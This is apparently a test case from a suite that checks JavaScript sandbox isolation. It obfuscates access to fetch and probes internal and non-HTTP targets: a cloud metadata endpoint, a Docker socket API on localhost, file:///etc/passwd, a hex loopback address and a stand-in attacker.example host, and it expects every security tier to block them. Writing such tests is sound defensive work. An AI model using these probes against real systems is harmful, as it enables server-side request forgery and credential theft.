/*---
id: ex-fetch-02-internal-targets
description: "Aims fetch, found by a computed key, at internal and non-HTTP targets (cloud metadata, localhost, file: and data: URLs) that a policy checking only hostnames might let through."
kind: malicious
category: exfiltration
technique: EX-fetch
variant: obfuscated
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const f = globalThis['fe' + 'tch'];
if (typeof f !== 'function') return 'held';
const targets = ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:2375/containers/json', 'http://[::1]/',
  'file:///etc/passwd', 'data:text/plain,hello', 'http://0x7f000001/', 'https://user:pass@attacker.example/'];
for (const t of targets) {
  const outcome = await f(t).then(() => 'ESCAPED: fetched ' + t, () => 'refused');
  if (outcome !== 'refused') return outcome;
}
return 'held';
